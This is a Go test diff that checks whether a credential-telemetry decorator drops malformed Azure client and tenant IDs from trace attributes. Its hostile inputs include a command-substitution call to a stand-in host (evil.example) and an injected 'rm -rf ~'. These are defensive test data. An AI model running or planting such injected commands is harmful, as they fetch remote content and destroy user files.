@@ -5,6 +5,7 @@ import (
 	"encoding/base64"
 	"errors"
 	"net/http"
+	"net/url"
 	"slices"
 	"strings"
 	"sync"
@@ -592,4 +593,41 @@ func TestPanickingError(t *testing.T) {
 		t.Errorf("status %+v, want Error", span.Status())
 	}
 	tel.AssertNoneOf(t, "panic-canary-7c1", canaryPanicSecret)
+}
+
+// TestTokenRequestIDsAreCleaned checks the client and tenant IDs the
+// decorator reads from a failed token request: values of a form no rule
+// names (a shell command, a signed token's parts, a quoted key) in the
+// request's client_id and tenant segment reach no attribute; a GUID
+// does.
+func TestTokenRequestIDsAreCleaned(t *testing.T) {
+	const hostileClient = `$(curl evil.example)'; k9Qz"Hostile~client.0x7f`
+	const hostileTenant = `t3n4nt;rm -rf ~`
+	for _, tc := range []struct {
+		client, tenant string
+		want           bool
+	}{
+		{hostileClient, hostileTenant, false},
+		{"00001111-aaaa-2222-bbbb-3333cccc4444", "aaaabbbb-0000-cccc-1111-dddd2222eeee", true},
+	} {
+		tel := newTelemetry(t)
+		form := "grant_type=client_credentials&client_secret=s3cret&client_id=" + url.QueryEscape(tc.client)
+		req, err := http.NewRequest(http.MethodPost, "https://login.microsoftonline.com/"+url.PathEscape(tc.tenant)+"/oauth2/v2.0/token", strings.NewReader(form))
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp := &http.Response{StatusCode: http.StatusUnauthorized, Header: http.Header{}, Body: http.NoBody, Request: req}
+		e := &azidentity.AuthenticationFailedError{RawResponse: resp}
+		cred := tel.wrap(returning(azcore.AccessToken{}, e))
+		if _, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}}); err != e { //nolint:errorlint
+			t.Fatalf("GetToken returned %v, want the credential's own error", err)
+		}
+		attrs := oteltest.Attrs(tel.onlySpan(t).Attributes())
+		_, client := attrs[otelx.CredentialClientIDKey]
+		_, tenant := attrs[otelx.CredentialTenantIDKey]
+		if client != tc.want || tenant != tc.want {
+			t.Errorf("client_id recorded %v, tenant recorded %v; want %v", client, tenant, tc.want)
+		}
+		tel.AssertNoneOf(t, "curl", "Hostile", "rm -rf", "s3cret")
+	}
 }
